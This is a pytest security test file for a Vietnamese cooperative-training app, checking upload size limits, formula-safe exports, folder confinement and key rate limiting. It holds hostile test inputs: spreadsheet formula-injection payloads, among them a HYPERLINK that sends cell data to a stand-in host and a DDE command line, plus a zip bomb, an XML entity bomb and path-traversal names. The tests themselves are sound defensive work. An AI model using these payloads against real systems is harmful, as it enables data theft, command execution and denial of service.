"""Security of the room without a browser (issue 14 §5); the browser side is in
``tests/browser/test_security.py``.

- uploads: a workbook that unzips to far more than it weighs is refused before it is read, with a
  message in Vietnamese and English, and nothing the manager pinned changes; the limit counts the
  bytes that arrived, not the size the browser claims;
- exports: what a trainee typed stays text in answers.xlsx and in the scenario CSV, never a formula;
- folders: owner, scenario and trainee names (``..``, absolute paths, NUL, very long, other
  scripts) give plain names under the root, and a link planted in the root that points outside
  is never followed to write there.
"""

from __future__ import annotations

import csv
import io
import os
import time
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import openpyxl
import pytest

from coopkit import exchange, exercises, progress
from coopkit.answers import AnswerStore, Trainee
from coopkit.errors import InputError
from coopkit.store import MAX_NAME_LENGTH, ScenarioStore
from coopkit.whatif import Scenario

ROOT = Path(__file__).resolve().parent.parent
ORANGES = {"fixed_costs": 120e6, "variable_cost_per_unit": 9_000.0, "volume": 40_000.0}
#: Text that a spreadsheet would run as a formula if it were written as one.
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")", "=1+1", "@SUM(A1:A9)", "+1+1", "-1+1",
            "=cmd|' /C calc'!A0"]


# --------------------------------------------------------------------------- uploads


def _exported(count: int = 2) -> bytes:
    scenarios = [Scenario(f"Kịch bản {i}", "unit_cost", ORANGES) for i in range(count)]
    return exchange.scenarios_to_xlsx(scenarios, lang="vi")


def _swollen(extra_rows: int) -> bytes:
    """An exported workbook whose Inputs sheet got ``extra_rows`` rows more: a few MB zipped,
    many more once unzipped (what a crafted or runaway file does)."""
    original = zipfile.ZipFile(io.BytesIO(_exported()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
        for info in original.infolist():
            content = original.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, tail = content.split(b"</sheetData>")
                rows = b"".join(b'<row r="%d"><c r="A%d" t="n"><v>1</v></c></row>' % (r, r)
                                for r in range(100, 100 + extra_rows))
                content = head + rows + b"</sheetData>" + tail
            out.writestr(info.filename, content)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def swollen() -> bytes:
    data = _swollen(300_000)  # 16 MB of cells in 0.5 MB
    assert len(data) < exchange.MAX_IMPORT_BYTES
    return data


def test_a_workbook_that_unzips_past_the_limit_is_refused_before_it_is_read(swollen):
    started = time.monotonic()
    with pytest.raises(InputError) as excinfo:
        exchange.scenarios_from_xlsx(swollen)
    assert time.monotonic() - started < 2.0  # reading it took 13 s and 0.9 GB for 21 MB of cells
    err = excinfo.value
    assert (err.field, err.reason) == ("file", "file_unpacks_too_large")
    unpacked = sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(swollen)).infolist())
    mb = f"{-(-unpacked // 100_000) / 10:.1f}"  # rounded up to 0.1 MB, never shown smaller than it is
    assert f"{mb.replace('.', ',')} MB" in err.message("vi") and "10 MB" in err.message("vi")
    assert "giải nén" in err.message("vi")
    assert f"{mb} MB" in err.message("en") and "more than the 10 MB this page reads" in err.message("en")


def test_a_file_on_disk_is_measured_too_and_a_normal_export_still_imports(tmp_path, swollen):
    path = tmp_path / "kich-ban.xlsx"
    path.write_bytes(swollen)
    with pytest.raises(InputError) as excinfo:
        exchange.scenarios_from_xlsx(path)
    assert excinfo.value.reason == "file_unpacks_too_large"
    assert [s.name for s in exchange.scenarios_from_xlsx(_exported(12))] == [f"Kịch bản {i}" for i in range(12)]


def test_a_zip_that_lies_about_its_sizes_is_refused_not_read():
    """The sizes checked are those of the archive's directory: a part that unzips to more than it
    says fails its check instead of filling the memory."""
    data = bytearray(_swollen(30_000))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("xl/worksheets/sheet1.xml")
    # Claim 1 KB for the sheet, in its local header and in the central directory.
    real = info.file_size.to_bytes(4, "little")
    assert bytes(data).count(real) >= 2
    data = bytes(data).replace(real, (1000).to_bytes(4, "little"))
    with pytest.raises(InputError) as excinfo:
        exchange.scenarios_from_xlsx(data)
    assert excinfo.value.reason in ("xlsx_unreadable", "file_unpacks_too_large")


def test_entities_that_expand_a_billion_times_are_not_expanded():
    original = zipfile.ZipFile(io.BytesIO(_exported()))
    lol = "".join(f'<!ENTITY l{i} "{"&l%d;" % (i - 1) * 10}">' for i in range(1, 10))
    bomb = (f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "lol">{lol}]>'
            '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
            "<si><t>&l9;</t></si></sst>").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in original.infolist():
            out.writestr(info.filename, bomb if info.filename == "xl/sharedStrings.xml" else original.read(info.filename))
    started = time.monotonic()
    try:  # the reader refuses the entities (defusedxml) or leaves them unexpanded
        exchange.scenarios_from_xlsx(buffer.getvalue())
    except InputError as err:
        assert err.field == "file"
    assert time.monotonic() - started < 5.0


@pytest.fixture
def app(tmp_path):
    from coopkit.ui.whatif_app import WhatIfApp

    return WhatIfApp(product="cam_lac_thuy", channel="shopee", store_root=str(tmp_path))


def _upload(app, name: str, content: bytes, size: int | None = None) -> None:
    app.scenarios.upload.value = ({"name": name, "type": "", "size": len(content) if size is None else size,
                                   "content": memoryview(content), "last_modified": datetime.now(timezone.utc)},)


def test_the_what_if_import_refuses_a_swollen_workbook_in_both_languages_and_nothing_changes(app, swollen):
    app.pin("Kế hoạch")
    before = list(app.pinned)
    _upload(app, "kich-ban-gia.xlsx", swollen)
    status = app.scenarios.status.value
    assert "ck-status-error" in status and "giải nén" in status and "10 MB" in status
    assert app.pinned == before and app.error is None
    assert app.scenarios.upload.value == ()  # the file is forgotten, it can be chosen again
    app.set_lang("en")
    _upload(app, "kich-ban-gia.xlsx", swollen)
    assert "once unzipped, more than the 10 MB this page reads" in app.scenarios.status.value
    assert app.pinned == before


def test_the_upload_limit_counts_the_bytes_that_arrived_not_the_size_the_browser_claims(app):
    """The size in an upload's description comes from the browser; a hand-made client can claim
    a small one for a large file."""
    app.pin("Kế hoạch")
    big = b"PK\x03\x04" + bytes(exchange.MAX_IMPORT_BYTES)
    _upload(app, "kich-ban-gia.xlsx", big, size=1_000)
    status = app.scenarios.status.value
    assert "ck-status-error" in status and "nặng 5,1 MB" in status and "giới hạn 5 MB" in status
    assert [s.name for s in app.pinned] == ["Kế hoạch"]


# --------------------------------------------------------------------------- exports keep text as text


def _no_formula(data: bytes) -> list[str]:
    """Cells of an .xlsx that a spreadsheet would compute (``<f>`` in the sheet XML, or a
    formula cell as openpyxl reads it)."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        found += [n for n in archive.namelist() if n.endswith(".xml") and b"<f>" in archive.read(n)]
    book = openpyxl.load_workbook(io.BytesIO(data))
    found += [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row
              if c.data_type == "f"]
    return found


@pytest.mark.parametrize("typed", FORMULAS)
def test_names_and_answers_a_trainee_typed_stay_text_in_answers_xlsx(tmp_path, typed):
    store = AnswerStore(tmp_path)
    eggs = exercises.load_set(ROOT / "exercises" / "02_break_even.toml")
    who = Trainee(typed, typed + " HTX")
    store.record(who, "break_even", "volume", "attempt", typed=typed + " 12", value=12.0, status="wrong")
    store.record(Trainee("Lan", typed), "break_even", "volume", "attempt", typed="12", value=12.0, status="wrong")
    data = progress.room_xlsx(store.records(), [eggs], "vi")
    assert _no_formula(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = {c.value for s in book.worksheets for row in s.iter_rows() for c in row}
    assert {typed, typed + " HTX", (typed + " 12")[:40]} <= values  # kept as typed (answers: 40 characters)


@pytest.mark.parametrize("typed", FORMULAS)
def test_text_in_a_scenario_stays_text_in_the_csv_and_xlsx_exports(typed):
    scenario = Scenario(typed, "unit_cost", ORANGES, product=typed, channel=typed, note=typed)
    text = exchange.scenarios_to_csv([scenario], lang="en")
    row = next(csv.reader(io.StringIO(text.splitlines()[1])))
    assert row[:5] == ["'" + typed, "unit_cost", "'" + typed, "'" + typed, "'" + typed]
    assert _no_formula(exchange.scenarios_to_xlsx([scenario], lang="en", base=typed)) == []


# --------------------------------------------------------------------------- folders stay in their root

OWNERS = ["../../outside", "/etc/cron.d", "C:\\Windows\\System32", "\\\\server\\share", "HTX\x00/../../x",
          "．．／．．／x", "HTX Cam\n../..", "~root/.ssh", "a" * 100_000, "%2e%2e%2fx", "HTX " + "../" * 400 + "x"]


def _tree(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob("*"))


@pytest.mark.parametrize("owner", OWNERS, ids=range(len(OWNERS)))
def test_an_owner_name_gives_one_plain_folder_directly_under_the_root(tmp_path, owner):
    root = tmp_path / "room"
    root.mkdir()
    store = ScenarioStore(root, owner, code="")
    store.save(Scenario("Giá 28.000", "unit_cost", ORANGES))
    assert store.folder.parent == root and store.folder.name.replace("-", "").isalnum()
    assert _tree(tmp_path) == ["room"] + [f"room/{p}" for p in _tree(root)]
    assert all(Path(p).parent == Path(store.folder.name) for p in _tree(root) if "/" in p)


@pytest.mark.parametrize("name", ["../../x", "/etc/passwd", "a\x00b", "..", "x/" * 60, "ĐỒNG\\..\\..\\x"])
def test_a_scenario_name_gives_a_file_inside_the_owners_folder(tmp_path, name):
    store = ScenarioStore(tmp_path, "HTX Cam", code="")
    try:
        store.save(Scenario(name, "unit_cost", ORANGES))
    except InputError as err:  # a name it cannot hold is refused, with a message
        assert err.field == "scenario"
        return
    files = [p for p in tmp_path.rglob("*") if p.is_file() and not p.name.startswith(".")]
    assert [p.parent for p in files] == [store.folder]
    assert store.load(name.strip()).name == name.strip()


def test_a_scenario_name_longer_than_the_limit_is_refused(tmp_path):
    store = ScenarioStore(tmp_path, "HTX Cam", code="")
    with pytest.raises(InputError) as excinfo:
        store.save(Scenario("x" * (MAX_NAME_LENGTH + 1), "unit_cost", ORANGES))
    assert excinfo.value.field == "scenario" and _tree(tmp_path) == []


TRAINEES = [("../../x", "../../y"), ("/etc/passwd", "/root"), ("C:\\x", "\\\\server\\x"), ("Lan\x00/..", "HTX\x00"),
            ("李明", "合作社"), ("🐝", "🍯"), ("．．", "．．／x")]


@pytest.mark.parametrize(("name", "cooperative"), TRAINEES, ids=range(len(TRAINEES)))
def test_a_trainee_name_gives_one_plain_folder_under_the_rooms_trainees(tmp_path, name, cooperative):
    root = tmp_path / "answers"
    store = AnswerStore(root)
    who = Trainee(name, cooperative)
    store.record(who, "break_even", "volume", "attempt", typed="12", value=12.0, status="wrong")
    folders = sorted(p for p in (root / "trainees").iterdir())
    assert [p.name for p in folders] == [who.key] and "/" not in who.key and ".." not in who.key
    assert all(p.parent == folders[0] for p in folders[0].iterdir())
    assert _tree(tmp_path)[0] == "answers" and all(p.startswith("answers") for p in _tree(tmp_path))
    assert [r["trainee"]["name"] for r in store.records(who)] == [who.name]


def test_two_trainees_whose_names_have_no_latin_letter_are_told_apart(tmp_path):
    store = AnswerStore(tmp_path)
    for who in (Trainee("李明", "合作社"), Trainee("王芳", "合作社")):
        store.record(who, "break_even", "volume", "hint", hints=1)
    assert len({r["trainee"]["key"] for r in store.records()}) == 2


def test_a_trainee_name_longer_than_the_limit_is_refused(tmp_path):
    with pytest.raises(InputError) as excinfo:
        Trainee("x" * 10_000, "HTX")
    assert excinfo.value.reason == "name_too_long"


# Links planted in a root. Only someone with an account on the server can plant one; the stores
# still refuse to write through it, so a shared folder cannot be turned into a way out.


@pytest.fixture
def outside(tmp_path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    return folder


def test_the_scenario_store_does_not_follow_an_owner_folder_that_links_outside(tmp_path, outside):
    root = tmp_path / "scenarios"
    root.mkdir()
    (root / "htx-cam").symlink_to(outside, target_is_directory=True)
    store = ScenarioStore(root, "HTX Cam", code="")
    with pytest.raises((InputError, OSError)):
        store.save(Scenario("Giá", "unit_cost", ORANGES))
    assert list(outside.iterdir()) == []


def test_the_scenario_store_does_not_follow_a_scenario_file_that_links_outside(tmp_path, outside):
    from coopkit.store import scenario_file_name

    store = ScenarioStore(tmp_path / "scenarios", "HTX Cam", code="")
    store.save(Scenario("Giá", "unit_cost", ORANGES))
    target = outside / "victim.json"
    target.write_text("keep me")
    link = store.folder / scenario_file_name("Giá 2")
    link.symlink_to(target)
    try:
        store.save(Scenario("Giá 2", "unit_cost", ORANGES), replace=False)
    except InputError as err:
        assert err.reason == "scenario_exists"
    store.save(Scenario("Giá 2", "unit_cost", ORANGES))  # replacing swaps the link itself for a file
    assert target.read_text() == "keep me" and not link.is_symlink()


@pytest.mark.parametrize("planted", ["trainees", "trainee"])
def test_the_answer_store_does_not_follow_a_folder_that_links_outside(tmp_path, outside, planted):
    root = tmp_path / "answers"
    who = Trainee("Lan", "HTX Mật ong")
    if planted == "trainees":
        root.mkdir()
        (root / "trainees").symlink_to(outside, target_is_directory=True)
    else:
        (root / "trainees").mkdir(parents=True)
        (root / "trainees" / who.key).symlink_to(outside, target_is_directory=True)
    store = AnswerStore(root)
    with pytest.raises(OSError):
        store.record(who, "break_even", "volume", "attempt", typed="12", value=12.0, status="wrong")
    assert list(outside.iterdir()) == []
    assert store.records() == []


def test_roots_that_are_links_themselves_keep_working(tmp_path):
    """A trainer may point the answer and scenario folders at a link (to a USB disk, say)."""
    real = tmp_path / "disk"
    real.mkdir()
    (tmp_path / "answers").symlink_to(real, target_is_directory=True)
    store = AnswerStore(tmp_path / "answers")
    store.record(Trainee("Lan", "HTX"), "break_even", "volume", "hint", hints=1)
    assert len(store.records()) == 1 and len(list((real / "trainees").iterdir())) == 1
    scenarios = ScenarioStore(tmp_path / "answers", "HTX Cam", code="")
    scenarios.save(Scenario("Giá", "unit_cost", ORANGES))
    assert scenarios.names() == ["Giá"] and (real / "htx-cam").is_dir()


def test_no_file_is_written_outside_a_root_by_the_lock_file_either(tmp_path, outside):
    root = tmp_path / "answers"
    who = Trainee("Lan", "HTX")
    folder = root / "trainees" / who.key
    folder.mkdir(parents=True)
    (folder / ".lock").symlink_to(outside / "made-by-the-lock")
    try:
        AnswerStore(root).record(who, "break_even", "volume", "hint", hints=1)
    except OSError:
        pass
    assert list(outside.iterdir()) == []
    assert not os.path.lexists(outside / "made-by-the-lock")


# --------------------------------------------------------------------------- the trainer's key


def test_a_page_that_tries_many_trainer_keys_must_wait(tmp_path, monkeypatch):
    """A visitor's page cannot try keys by the thousand (a trainer may choose a short key): after
    `MAX_KEY_TRIES` wrong keys even the right one is not compared until `KEY_WAIT_SECONDS` passed."""
    from coopkit.answers import trainer_key
    from coopkit.ui.trainer import KEY_WAIT_SECONDS, MAX_KEY_TRIES, TrainerPage

    monkeypatch.delenv("COOPKIT_TRAINER_KEY", raising=False)
    key = trainer_key(tmp_path)
    page = TrainerPage(lang="vi", root=tmp_path)
    now = [1000.0]
    page.clock = lambda: now[0]
    for i in range(MAX_KEY_TRIES):
        assert not page.unlock(f"sai-{i}")
    assert not page.unlock(key) and not page.unlocked
    assert f"chờ {KEY_WAIT_SECONDS} giây" in page.message.value and page.key.value == ""
    page.set_lang("en")
    now[0] += KEY_WAIT_SECONDS - 10
    assert not page.unlock(key) and "wait 10 seconds" in page.message.value
    now[0] += 10
    assert page.unlock(key) and page.unlocked
    page.lock()
    # Fewer wrong keys than the limit, then the right one: no wait.
    for i in range(MAX_KEY_TRIES - 1):
        assert not page.unlock(f"sai-{i}")
    assert page.unlock(key)


# --------------------------------------------------------------------------- charts draw typed text as text


@pytest.mark.parametrize("name", ["$\\alpha^$", "Giá $5$ nghìn", "$$", "HTX \\$ \\frac{1}{0}"])
def test_a_scenario_or_member_name_with_dollar_signs_is_drawn_as_typed(app, name, caplog):
    """Matplotlib reads text between two "$" as TeX: a name was drawn in italics, or with a
    stray "^" it broke the pinned chart and the app."""
    from coopkit.ui.members_app import MemberIncomeApp

    app.pin(name)
    app.pin("Kế hoạch")
    assert [s.name for s in app.pinned] == [name, "Kế hoạch"] and app.error is None
    assert app.scenarios.pinned_chart.layout.display != "none" and len(app.scenarios.pinned_chart.value) > 1000
    members = MemberIncomeApp()
    members.control("members").rows[0][0].value = name
    assert members.error is None
    assert "failed" not in caplog.text


# --------------------------------------------------------------------------- the hub's trainee servers

#: What a Voila page sends its kernel (standalone Voila's own list, voila/app.py): its widgets'
#: messages, and nothing that runs code.
PAGE_MESSAGES = {"comm_open", "comm_close", "comm_msg", "comm_info_request", "kernel_info_request", "shutdown_request"}


def test_a_trainee_server_under_the_hub_refuses_code_sent_to_its_kernels():
    """Standalone Voila drops an ``execute_request`` sent through a page's kernel websocket
    (tests/browser/test_security.py); Voila as a Jupyter server extension, as the hub runs it,
    does not unless the server is told which messages to let through."""
    pytest.importorskip("jupyterhub")
    from traitlets.config.loader import PyFileConfigLoader

    folder = ROOT / "deploy" / "jupyterhub" / "singleuser"
    config = PyFileConfigLoader("jupyter_server_config.py", path=str(folder)).load_config()
    allowed = set(config.MappingKernelManager.get("allowed_message_types", []))
    assert allowed and allowed <= PAGE_MESSAGES, allowed


@pytest.mark.parametrize("name", ["$\\alpha^$", "Giá $5$ nghìn"])
def test_a_trainee_or_workshop_name_with_dollar_signs_is_printed_as_typed_on_the_certificates(name):
    """One trainee's name read as TeX broke the PDF of the whole room."""
    import datetime as dt

    import pypdf

    from coopkit.plots.certificates import certificates_pdf

    pdf = certificates_pdf([({"name": name, "cooperative": "HTX Mật ong"}, ["break_even"]),
                            ({"name": "Lan", "cooperative": name}, ["break_even"])], "vi", f"Lớp {name}",
                           dt.date(2026, 11, 30))
    pages = pypdf.PdfReader(io.BytesIO(pdf)).pages
    assert len(pages) == 2 and all(name in page.extract_text() for page in pages)
